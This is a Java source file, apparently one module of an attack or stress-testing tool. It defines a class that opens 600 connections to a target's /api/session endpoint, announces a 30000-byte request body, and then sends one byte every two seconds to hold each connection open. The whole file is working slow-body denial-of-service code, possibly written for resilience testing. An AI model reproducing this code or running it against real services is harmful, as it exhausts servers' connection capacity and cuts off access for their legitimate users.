package games.chalet.attack;

import java.io.OutputStream;
import java.net.Socket;
import java.time.Duration;

/** Bodies that are announced and then come byte by byte, of writes and of GETs. */
final class HalfSentBodies implements Attack {

  private static final int CONNECTIONS = 600;
  private static final Duration BETWEEN_BYTES = Duration.ofSeconds(2);

  @Override
  public void on(Target target) {
    target.swarm(
        CONNECTIONS,
        (Socket socket, int number) -> {
          OutputStream out = socket.getOutputStream();
          String method = number % 2 == 0 ? "PUT" : "GET";
          out.write(
              Http.request(
                  method,
                  "/api/session",
                  "Content-Type: application/json",
                  "Content-Length: 30000"));
          while (target.goesOn()) {
            out.write(' ');
            target.count("bytes");
            target.rest(BETWEEN_BYTES);
          }
        });
  }
}
